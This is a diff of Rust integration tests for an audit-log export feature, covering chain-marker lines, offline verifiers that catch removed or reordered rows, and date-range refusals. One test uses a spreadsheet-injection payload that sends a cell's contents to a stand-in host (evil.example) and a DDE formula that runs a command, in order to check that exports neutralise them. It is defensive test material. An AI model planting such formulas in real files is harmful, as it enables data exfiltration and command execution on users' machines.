@@ -327,23 +327,46 @@ async fn an_export_of_100000_rows_parses_back_and_its_hashes_verify(pool: PgPool
 
     let (status, csv) = download(&manager, &format!("{}/audit/export.csv", app.base)).await;
     assert_eq!(status, 200);
-    // An independent CSV reader, then the chain walked row by row.
-    let mut reader_csv = csv::ReaderBuilder::new().from_reader(&csv[..]);
+    // An independent CSV reader, then the chain walked row by row (the
+    // start and end lines are records whose first cell starts with #).
+    let mut reader_csv = csv::ReaderBuilder::new()
+        .flexible(true)
+        .from_reader(&csv[..]);
     let header: Vec<String> = reader_csv
         .headers()
         .expect("header")
         .iter()
         .map(str::to_owned)
         .collect();
-    assert_eq!(header, server::audit::csv_header());
+    assert_eq!(header, server::audit_export::csv_header());
     let mut walk = server::audit::Walk::default();
     let mut rows = 0;
+    let mut markers = Vec::new();
     for record in reader_csv.records() {
-        let row = server::audit::ChainRow::from_csv_record(&record.expect("record")).expect("row");
+        let record = record.expect("record");
+        if record[0].starts_with('#') {
+            markers.push(record.iter().collect::<Vec<_>>().join(","));
+            continue;
+        }
+        let row = server::audit::ChainRow::from_csv_record(&record).expect("row");
         walk.check(&row).expect("the chain holds");
         rows += 1;
     }
     assert_eq!(rows, total);
+    assert_eq!(
+        markers,
+        [
+            format!(
+                "#export=start,after_seq=0,after_hash={},filtered=false",
+                server::audit::GENESIS
+            ),
+            format!(
+                "#export=end,rows={total},last_seq={},last_hash={}",
+                walk.last().0,
+                walk.last().1
+            )
+        ]
+    );
 
     let (status, jsonl) = download(&manager, &format!("{}/audit/export.jsonl", app.base)).await;
     assert_eq!(status, 200);
@@ -351,6 +374,9 @@ async fn an_export_of_100000_rows_parses_back_and_its_hashes_verify(pool: PgPool
     let mut rows = 0;
     for line in jsonl.split(|b| *b == b'\n').filter(|l| !l.is_empty()) {
         let value: serde_json::Value = serde_json::from_slice(line).expect("a JSON object");
+        if value.get("export").is_some() {
+            continue;
+        }
         assert!(value["hash"].as_str().is_some_and(|h| h.len() == 64));
         let row: server::audit::ChainRow = serde_json::from_value(value).expect("row");
         walk.check(&row).expect("the chain holds");
@@ -450,6 +476,7 @@ async fn an_export_of_100000_rows_parses_back_and_its_hashes_verify(pool: PgPool
     let mine = String::from_utf8(mine).expect("utf8");
     let teams: std::collections::BTreeSet<String> = mine
         .lines()
+        .filter(|l| !l.starts_with(r#"{"export""#))
         .map(|l| {
             serde_json::from_str::<server::audit::ChainRow>(l)
                 .expect("row")
@@ -458,8 +485,17 @@ async fn an_export_of_100000_rows_parses_back_and_its_hashes_verify(pool: PgPool
         })
         .collect();
     assert_eq!(teams.len(), 1, "{teams:?}");
-    let verified = server::audit::verify_export(mine.as_bytes(), true).expect("reads");
-    assert_eq!(verified.broken, None);
+    let checked = server::audit_export::verify_export(mine.as_bytes(), true).expect("reads");
+    assert_eq!(checked.verified.broken, None);
+    assert!(
+        mine.starts_with(r#"{"export":"start","#),
+        "{}",
+        &mine[..200]
+    );
+    assert!(mine
+        .lines()
+        .next()
+        .is_some_and(|l| l.ends_with(r#","filtered":true}"#)));
     let stakeholder = reader(&app, "alex.kim").await;
     let (status, said) = download(&stakeholder, &format!("{}/audit/export.csv", app.base)).await;
     assert_eq!(status, 403);
@@ -920,4 +956,317 @@ async fn a_row_its_writer_left_unchained_is_chained_and_can_only_be_chained(pool
     .execute(&pool)
     .await;
     assert!(refused.is_err(), "a chained row stays as it is");
+}
+
+/// Both offline verifiers on an export: `gatehouse audit verify --export`
+/// and `scripts/verify-audit-export.py`, each with whether it passed and
+/// what it printed.
+fn verifiers(export: &[u8], ext: &str, filtered: bool) -> [(bool, String); 2] {
+    let file = std::env::temp_dir().join(format!("audit-{}.{ext}", uuid::Uuid::new_v4()));
+    std::fs::write(&file, export).expect("write");
+    let script = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../scripts/verify-audit-export.py"
+    );
+    let flag: &[&str] = if filtered { &["--filtered"] } else { &[] };
+    let said = |out: std::process::Output| {
+        (
+            out.status.success(),
+            format!(
+                "{}{}",
+                String::from_utf8_lossy(&out.stdout),
+                String::from_utf8_lossy(&out.stderr)
+            ),
+        )
+    };
+    let gatehouse = said(
+        Command::new(BIN)
+            .args(["audit", "verify", "--export"])
+            .arg(&file)
+            .args(flag)
+            .output()
+            .expect("gatehouse runs"),
+    );
+    let python = said(
+        Command::new("python3")
+            .arg(script)
+            .arg(&file)
+            .args(flag)
+            .output()
+            .expect("python3 runs"),
+    );
+    let _ = std::fs::remove_file(&file);
+    [gatehouse, python]
+}
+
+/// An export cut into its records (CSV) or lines (JSON Lines), each with
+/// its line end, so rows can be moved or removed as someone editing the
+/// file would.
+fn export_lines(export: &[u8], ext: &str) -> Vec<Vec<u8>> {
+    if ext == "jsonl" {
+        return export
+            .split_inclusive(|b| *b == b'\n')
+            .map(<[u8]>::to_vec)
+            .collect();
+    }
+    // A record ends at a CRLF outside quotes (a doubled quote inside a
+    // quoted cell toggles twice).
+    let mut lines = Vec::new();
+    let (mut start, mut quoted) = (0, false);
+    for (i, byte) in export.iter().enumerate() {
+        match byte {
+            b'"' => quoted = !quoted,
+            b'\n' if !quoted && i > 0 && export[i - 1] == b'\r' => {
+                lines.push(export[start..=i].to_vec());
+                start = i + 1;
+            }
+            _ => {}
+        }
+    }
+    assert!(start == export.len(), "the export ends with a record's end");
+    lines
+}
+
+#[sqlx::test(migrator = "server::db::MIGRATOR")]
+async fn a_name_or_comment_that_is_a_spreadsheet_formula_is_exported_as_text_and_still_verifies(
+    pool: PgPool,
+) {
+    let app = demo_queue(pool.clone()).await;
+    const NAME: &str = r#"=HYPERLINK("http://evil.example/?"&A2,"Open")"#;
+    const COMMENT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+    // A QA engineer whose sign-in provider gives a formula as their name
+    // signs in and rejects a request with a formula as the reason.
+    sqlx::query(
+        r#"INSERT INTO users (id, login, display_name, roles, provider, issuer, subject, person)
+           VALUES (gen_random_uuid(), 'eve', $1, '{qa}', 'demo', '', 'eve', 'demo:eve')"#,
+    )
+    .bind(NAME)
+    .execute(&pool)
+    .await
+    .expect("eve");
+    let eve = app.person("eve", &["qa"]).await;
+    let request: uuid::Uuid = sqlx::query_scalar(
+        "SELECT id FROM approval_requests WHERE state = 'pending' AND environment_id = 'qa' ORDER BY pipeline LIMIT 1",
+    )
+    .fetch_one(&pool)
+    .await
+    .expect("a QA request");
+    let request = request.to_string();
+    let voted = eve
+        .call(
+            "approvals/decide",
+            &[
+                ("request", request.as_str()),
+                ("decision", "reject"),
+                ("comment", COMMENT),
+            ],
+        )
+        .await;
+    assert_eq!(voted.status(), 200);
+    server::db::audit::chain_pending(&pool)
+        .await
+        .expect("chained");
+
+    let manager = reader(&app, "morgan.lee").await;
+    let (status, export) = download(&manager, &format!("{}/audit/export.csv", app.base)).await;
+    assert_eq!(status, 200);
+    let mut cells = Vec::new();
+    let mut csv_reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(&export[..]);
+    for record in csv_reader.records() {
+        cells.extend(record.expect("record").iter().map(str::to_owned));
+    }
+    let formulas: Vec<&String> = cells
+        .iter()
+        .filter(|c| c.starts_with(app::encode::FORMULA_STARTS))
+        .collect();
+    assert!(
+        formulas.is_empty(),
+        "cells a spreadsheet would run: {formulas:?}"
+    );
+    // The name, the reason and the summaries that start with the name are
+    // text that starts with a quote.
+    assert!(cells.iter().any(|c| *c == format!("'{NAME}")), "the name");
+    assert!(
+        cells.iter().any(|c| *c == format!("'{COMMENT}")),
+        "the reason"
+    );
+    assert!(
+        cells
+            .iter()
+            .any(|c| c.starts_with(&format!("'{NAME} signed in"))),
+        "the sign-in's summary"
+    );
+    // The hashes are of the values, so both verifiers still agree.
+    for (ok, said) in verifiers(&export, "csv", false) {
+        assert!(ok, "{said}");
+        assert!(said.contains("audit export verified"), "{said}");
+    }
+    // JSON Lines keeps the values as they are.
+    let (status, lines) = download(&manager, &format!("{}/audit/export.jsonl", app.base)).await;
+    assert_eq!(status, 200);
+    let lines = String::from_utf8(lines).expect("utf8");
+    assert!(lines.lines().any(|l| {
+        serde_json::from_str::<serde_json::Value>(l)
+            .is_ok_and(|v| v["actor_name"] == NAME && v["comment"] == COMMENT)
+    }));
+}
+
+#[sqlx::test(migrator = "server::db::MIGRATOR")]
+async fn dates_the_database_cannot_hold_are_refused_in_a_sentence_not_a_500_or_a_cut_off_download(
+    pool: PgPool,
+) {
+    let app = spawn(pool.clone(), Mode::Demo).await;
+    seed(&pool, 5).await;
+    let manager = reader(&app, "morgan.lee").await;
+    let words = "is outside the dates the audit log covers (1970-01-01 to 9999-12-31)";
+    for (name, value) in [
+        ("from", "-262143-01-01"),
+        ("to", "-4713-01-01"),
+        ("from", "1969-12-31"),
+    ] {
+        let response = manager
+            .get(format!("{}/audit?{name}={value}", app.base))
+            .send()
+            .await
+            .expect("page");
+        assert_eq!(response.status(), 400, "/audit?{name}={value}");
+        let page = response.text().await.expect("html");
+        assert!(page.contains(words), "{page}");
+        for ext in ["csv", "jsonl"] {
+            let response = manager
+                .get(format!("{}/audit/export.{ext}?{name}={value}", app.base))
+                .send()
+                .await
+                .expect("export");
+            assert_eq!(response.status(), 400);
+            assert!(response.headers()["content-type"]
+                .to_str()
+                .is_ok_and(|t| t.starts_with("text/plain")));
+            let said = response.text().await.expect("a whole answer");
+            assert_eq!(
+                said,
+                format!("The {name} date \u{201c}{value}\u{201d} {words}.")
+            );
+        }
+        let (status, body) = audit_view(&manager, &app.base, &[(name, value)]).await;
+        assert_eq!(status, 400, "{body}");
+        assert!(body.contains(words), "{body}");
+    }
+    // The widest range the filters take is the whole log.
+    let (status, export) = download(
+        &manager,
+        &format!(
+            "{}/audit/export.csv?from=1970-01-01&to=9999-12-31",
+            app.base
+        ),
+    )
+    .await;
+    assert_eq!(status, 200);
+    for (ok, said) in verifiers(&export, "csv", false) {
+        assert!(ok, "{said}");
+        assert!(said.contains("from the chain's first row"), "{said}");
+    }
+    // A value given twice is refused in words, not in the framework's.
+    let response = manager
+        .get(format!(
+            "{}/audit/export.csv?from=2026-01-01&from=2026-02-01",
+            app.base
+        ))
+        .send()
+        .await
+        .expect("export");
+    assert_eq!(response.status(), 400);
+    assert_eq!(response.text().await.expect("body"), server::query::REFUSAL);
+}
+
+#[sqlx::test(migrator = "server::db::MIGRATOR")]
+async fn an_export_missing_its_first_or_last_rows_or_with_rows_swapped_fails_both_verifiers_in_words(
+    pool: PgPool,
+) {
+    let app = spawn(pool.clone(), Mode::Demo).await;
+    seed(&pool, 40).await;
+    let manager = reader(&app, "morgan.lee").await;
+    let both_refuse = |export: &[u8], ext: &str, filtered: bool, words: &str| {
+        for (ok, said) in verifiers(export, ext, filtered) {
+            assert!(!ok, "{ext}: passed: {said}");
+            assert!(said.contains(words), "{ext}: {said}");
+        }
+    };
+    for ext in ["csv", "jsonl"] {
+        let (status, export) =
+            download(&manager, &format!("{}/audit/export.{ext}", app.base)).await;
+        assert_eq!(status, 200);
+        let lines = export_lines(&export, ext);
+        // CSV: the column header, then the start line; JSON Lines: the
+        // start line. Then rows 1, 2, ... and the end line.
+        let first = if ext == "csv" { 2 } else { 1 };
+        for (ok, said) in verifiers(&export, ext, false) {
+            assert!(ok, "{said}");
+            assert!(said.contains("from the chain's first row"), "{said}");
+        }
+
+        let mut edited = lines.clone();
+        edited.remove(first);
+        both_refuse(
+            &edited.concat(),
+            ext,
+            false,
+            "audit chain broken at row 1: row 1 is missing: the export's start line says it starts after row 0, but its first row is 2",
+        );
+
+        let mut edited = lines.clone();
+        edited.swap(first + 30, first + 33);
+        both_refuse(
+            &edited.concat(),
+            ext,
+            false,
+            "audit chain broken at row 31: out of order: row 34 comes before rows 31 to 33 in the export",
+        );
+
+        let mut edited = lines.clone();
+        edited.remove(edited.len() - 2);
+        both_refuse(&edited.concat(), ext, false, "rows, but the export has");
+
+        let mut edited = lines.clone();
+        edited.truncate(lines.len() - 3);
+        both_refuse(
+            &edited.concat(),
+            ext,
+            false,
+            "the export ends here without its end line",
+        );
+
+        // The start line removed as well as the first row.
+        let mut edited = lines.clone();
+        edited.drain(first - 1..=first);
+        both_refuse(
+            &edited.concat(),
+            ext,
+            false,
+            "audit chain broken at row 2: the export's start line is missing",
+        );
+    }
+    // A filtered export says so; its first row cannot go either.
+    let (status, export) = download(
+        &manager,
+        &format!("{}/audit/export.jsonl?team=mobile", app.base),
+    )
+    .await;
+    assert_eq!(status, 200);
+    both_refuse(&export, "jsonl", false, "check it with --filtered");
+    for (ok, said) in verifiers(&export, "jsonl", true) {
+        assert!(ok, "{said}");
+        assert!(said.contains("places where rows were left out"), "{said}");
+    }
+    let mut edited = export_lines(&export, "jsonl");
+    edited.remove(1);
+    both_refuse(
+        &edited.concat(),
+        "jsonl",
+        true,
+        "missing: the export's start line says it starts after row",
+    );
 }
